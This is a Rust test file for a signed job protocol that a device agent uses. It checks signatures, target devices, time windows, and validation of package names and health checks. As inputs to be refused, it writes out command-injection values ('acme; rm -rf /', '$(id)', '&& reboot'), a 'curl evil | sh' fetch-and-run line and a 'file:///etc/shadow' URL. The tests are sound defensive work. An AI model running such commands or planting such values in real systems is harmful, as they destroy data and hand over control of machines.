//! Signed agent jobs: what the agent accepts and what it refuses.

use ringfence_proto::jobs::{Job, JobKind, PackageVersion, Refusal, SignedJob, sign, verify};

fn t(s: &str) -> jiff::Timestamp {
    s.parse().unwrap()
}

/// A fixed key pair (the server's signing key and the public key an agent pins).
fn keys(seed: u8) -> (String, String) {
    let key = ed25519_dalek::SigningKey::from_bytes(&[seed; 32]);
    (hex::encode(key.to_bytes()), hex::encode(key.verifying_key().to_bytes()))
}

fn job() -> Job {
    Job {
        id: "job-1".into(),
        idempotency_key: "dep-7-install".into(),
        device_id: "dev-42".into(),
        deployment_id: Some("dep-7".into()),
        work: JobKind::Install {
            packages: vec![PackageVersion {
                manager: "dpkg".into(),
                name: "acme-svc".into(),
                version: "1.1-1".into(),
            }],
            reboot_allowed: false,
            health_checks: Vec::new(),
        },
        window_start: t("2026-12-06T08:00:00Z"),
        window_end: t("2026-12-06T11:00:00Z"),
        issued_at: t("2026-12-05T12:00:00Z"),
    }
}

const INSIDE: &str = "2026-12-06T09:00:00Z";

#[test]
fn a_signed_job_for_this_device_inside_its_window_is_accepted() {
    let (secret, public) = keys(1);
    let signed = sign(&job(), &secret).unwrap();
    assert_eq!(verify(&signed, &public, "dev-42", t(INSIDE)).unwrap(), job());
    // It survives the wire.
    let wire: SignedJob = serde_json::from_str(&serde_json::to_string(&signed).unwrap()).unwrap();
    assert_eq!(verify(&wire, &public, "dev-42", t(INSIDE)).unwrap(), job());
}

#[test]
fn a_bad_signature_or_another_key_is_refused() {
    let (secret, public) = keys(1);
    let (other_secret, _) = keys(2);
    let signed = sign(&job(), &secret).unwrap();
    // Signed by another key.
    let forged = sign(&job(), &other_secret).unwrap();
    assert_eq!(verify(&forged, &public, "dev-42", t(INSIDE)), Err(Refusal::BadSignature));
    // The payload changed after signing: another version slipped in.
    let tampered =
        SignedJob { payload: signed.payload.replace("1.1-1", "6.6-6"), signature: signed.signature.clone() };
    assert_eq!(verify(&tampered, &public, "dev-42", t(INSIDE)), Err(Refusal::BadSignature));
    // A signature that is not hex, or cut short.
    for sig in ["zz", &signed.signature[..10]] {
        let bad = SignedJob { payload: signed.payload.clone(), signature: sig.into() };
        assert_eq!(verify(&bad, &public, "dev-42", t(INSIDE)), Err(Refusal::BadSignature));
    }
    assert_eq!(verify(&signed, "not-a-key", "dev-42", t(INSIDE)), Err(Refusal::BadPinnedKey));
}

#[test]
fn a_job_outside_its_window_or_for_another_device_is_refused() {
    let (secret, public) = keys(1);
    let signed = sign(&job(), &secret).unwrap();
    assert_eq!(
        verify(&signed, &public, "dev-42", t("2026-12-06T07:59:59Z")),
        Err(Refusal::NotYet(t("2026-12-06T08:00:00Z")))
    );
    assert_eq!(
        verify(&signed, &public, "dev-42", t("2026-12-06T11:00:00Z")),
        Err(Refusal::WindowOver(t("2026-12-06T11:00:00Z")))
    );
    assert_eq!(verify(&signed, &public, "dev-43", t(INSIDE)), Err(Refusal::OtherDevice("dev-42".into())));
    let e = verify(&signed, &public, "dev-42", t("2026-12-07T09:00:00Z")).unwrap_err();
    assert!(e.to_string().contains("missed and will be rescheduled"), "{e}");
}

#[test]
fn jobs_name_packages_and_versions_only_as_package_managers_write_them() {
    let (secret, _) = keys(1);
    for (name, version) in
        [("acme; rm -rf /", "1.0"), ("acme", "1.0 && reboot"), ("", "1.0"), ("acme", "$(id)")]
    {
        let mut j = job();
        j.work = JobKind::Install {
            packages: vec![PackageVersion {
                manager: "dpkg".into(),
                name: name.into(),
                version: version.into(),
            }],
            reboot_allowed: false,
            health_checks: Vec::new(),
        };
        let e = sign(&j, &secret).unwrap_err();
        assert!(e.contains("characters a package manager does not use"), "{name} {version}: {e}");
    }
    let mut j = job();
    j.window_end = j.window_start;
    assert!(sign(&j, &secret).unwrap_err().contains("window_end"));
    let mut j = job();
    j.work = JobKind::Rollback { packages: Vec::new(), health_checks: Vec::new() };
    assert!(sign(&j, &secret).unwrap_err().contains("1 to 500 packages"));
    // Kinds without packages need none.
    let mut j = job();
    j.work = JobKind::Reboot;
    assert!(sign(&j, &secret).is_ok());
}

#[test]
fn a_validly_signed_payload_with_unknown_fields_or_a_bad_package_is_still_refused() {
    // Even with the server's own key, a payload that does not read as a job is refused.
    let (secret, public) = keys(1);
    let key = ed25519_dalek::SigningKey::from_bytes(&hex::decode(&secret).unwrap().try_into().unwrap());
    use ed25519_dalek::Signer;
    let mut value = serde_json::to_value(job()).unwrap();
    value["shell"] = "curl evil | sh".into();
    let payload = value.to_string();
    let sig = key.sign(&[b"ringfence-job-v1\n".as_slice(), payload.as_bytes()].concat());
    let signed = SignedJob { payload, signature: hex::encode(sig.to_bytes()) };
    assert!(matches!(verify(&signed, &public, "dev-42", t(INSIDE)), Err(Refusal::Invalid(_))));
}

#[test]
fn health_checks_travel_signed_and_bad_ones_are_refused_by_name() {
    use ringfence_proto::jobs::HealthCheck;
    let (secret, public) = keys(1);
    let good = vec![
        HealthCheck::SystemdUnit { unit: "acme-svc.service".into() },
        HealthCheck::Tcp { host: "127.0.0.1".into(), port: 8080 },
        HealthCheck::Http { url: "http://127.0.0.1:8080/health".into(), expect_status: Some(200) },
        HealthCheck::Command { argv: vec!["/usr/bin/acme-svc".into(), "--health".into()], timeout_secs: 30 },
    ];
    let mut j = job();
    j.work = JobKind::HealthChecks { checks: good.clone() };
    let signed = sign(&j, &secret).unwrap();
    assert_eq!(verify(&signed, &public, "dev-42", t(INSIDE)).unwrap().work.health_checks(), good.as_slice());
    for (bad, expect) in [
        (HealthCheck::SystemdUnit { unit: "nginx; reboot".into() }, "unit"),
        (HealthCheck::Tcp { host: "db".into(), port: 0 }, "port"),
        (HealthCheck::Http { url: "file:///etc/shadow".into(), expect_status: None }, "http:// or https://"),
        (HealthCheck::Http { url: "http://x/".into(), expect_status: Some(42) }, "expect_status"),
        (HealthCheck::Command { argv: Vec::new(), timeout_secs: 30 }, "1 to 64 arguments"),
        (HealthCheck::Command { argv: vec!["true".into()], timeout_secs: 0 }, "timeout_secs"),
    ] {
        let mut j = job();
        j.work = JobKind::HealthChecks { checks: vec![bad] };
        let e = sign(&j, &secret).unwrap_err();
        assert!(e.contains(expect), "{e}");
    }
    // The default timeout of a command check, and its label.
    let c: HealthCheck = serde_json::from_str(r#"{"check": "command", "argv": ["true"]}"#).unwrap();
    assert_eq!(c, HealthCheck::Command { argv: vec!["true".into()], timeout_secs: 30 });
    assert_eq!(c.label(), "command true");
}
